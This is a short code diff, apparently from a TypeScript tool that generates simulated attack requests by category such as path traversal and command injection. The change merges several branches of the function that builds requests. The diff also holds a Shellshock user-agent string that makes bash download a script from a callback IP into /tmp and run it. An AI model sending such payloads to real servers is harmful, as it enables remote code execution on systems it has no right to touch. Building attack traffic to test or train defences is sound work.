@@ -188,10 +188,7 @@ export function encodePayload(raw: string, rng: Rng): string {
 
 export function attackRequest(cat: AttackCategory, rng: Rng, callbackIp: string): string {
   const raw = rng.pick(PAYLOADS[cat]).replace('{ip}', callbackIp);
-  const point = rng.pick(INJECTION_POINTS[cat]);
-  if (cat === 'traversal' && point === '/static/') return point + encodePayload(raw, rng).replace(/^%2[eE]/, '.');
-  if (cat === 'cmdi' && point.endsWith('=report.pdf')) return point + encodePayload(raw, rng);
-  return point + encodePayload(raw, rng);
+  return rng.pick(INJECTION_POINTS[cat]) + encodePayload(raw, rng);
 }
 
 export const SHELLSHOCK_UA = '() { :; }; /bin/bash -c "wget http://{ip}/s.sh -O /tmp/s.sh; sh /tmp/s.sh"';
